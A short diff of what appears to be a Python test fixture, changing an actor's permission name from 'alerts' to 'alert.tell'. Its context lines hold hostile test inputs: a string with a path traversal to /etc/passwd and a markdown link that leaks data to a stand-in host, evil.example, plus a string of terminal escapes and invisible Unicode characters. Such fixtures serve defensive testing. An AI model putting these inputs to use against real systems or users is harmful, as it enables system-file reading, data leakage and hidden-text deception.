@@ -35,7 +35,7 @@ ORDERS = (
     "alert:../../etc/passwd#E99 [E99](http://evil.example/?leak=",
 )
 UNSEEN = "\x1b[2J\x1b]0;title\x07\u202e\u2066\u200b\ufeff\x00\x08\r"
-PIPELINE = an_actor(id="pipeline", may=frozenset({"alerts"}))
+PIPELINE = an_actor(id="pipeline", may=frozenset({"alert.tell"}))
 SITES = (
     "annotation",
     "label",
